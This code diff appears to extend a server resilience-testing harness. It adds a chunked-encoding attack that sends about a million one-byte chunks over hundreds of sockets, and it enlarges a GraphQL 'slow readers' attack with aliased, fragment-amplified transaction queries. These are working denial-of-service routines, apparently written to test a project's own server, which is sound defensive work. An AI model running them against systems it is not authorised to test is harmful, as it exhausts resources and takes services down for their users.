@@ -68,6 +68,25 @@ const largeBodies: Attack = {
   },
 }
 
+/** Bodies whose bytes are each a separate part. */
+const singleBytes: Attack = {
+  async run(target, signal) {
+    const answers = count()
+    const sockets: Socket[] = []
+    const parts = Buffer.from('1\r\n \r\n'.repeat(500_000))
+    for (let at = 0; at < 590 && !signal.aborted; at += 1) {
+      const socket = open(target, answers)
+      socket.write(postHead(target, 0).replace('content-length: 0', 'transfer-encoding: chunked'))
+      socket.write(parts)
+      sockets.push(socket)
+      await pause(100)
+    }
+    if (!signal.aborted) await once(signal, 'abort')
+    for (const socket of sockets) socket.destroy()
+    return `${sockets.length} opened; ${answers.words()}`
+  },
+}
+
 /** Connections on which nothing is sent. */
 const idleConnections: Attack = {
   async run(target, signal) {
@@ -108,14 +127,17 @@ const pipelining: Attack = {
 const slowReaders: Attack = {
   async run(target, signal) {
     const answers = count()
-    const query = '{ transactions(first: 100) { nodes { id code description metadata rawStatus rawType } } }'
+    const page = (at: number) => `f${at}: transactions(first: 100) { nodes { ...Wide } }`
+    const fields = Array.from({ length: 20 }, (_, at) => page(at)).join(' ')
+    const wide = 'a: description b: description c: description metadata rawStatus id'
+    const query = `{ ${fields} } fragment Wide on Transaction { ${wide} }`
     const body = JSON.stringify({ query })
     const sockets: Socket[] = []
     for (let at = 0; at < 590 && !signal.aborted; at += 1) {
       const socket = open(target, answers).pause()
       socket.write(`${postHead(target, body.length)}${body}`)
       sockets.push(socket)
-      await pause(20)
+      await pause(100)
     }
     if (!signal.aborted) await once(signal, 'abort')
     const held = openOf(sockets)
@@ -127,6 +149,7 @@ const slowReaders: Attack = {
 export const connectionAttacks = {
   'slow bodies': slowBodies,
   'large bodies': largeBodies,
+  'bodies of single bytes': singleBytes,
   'idle connections': idleConnections,
   'pipelined requests': pipelining,
   'slow readers': slowReaders,
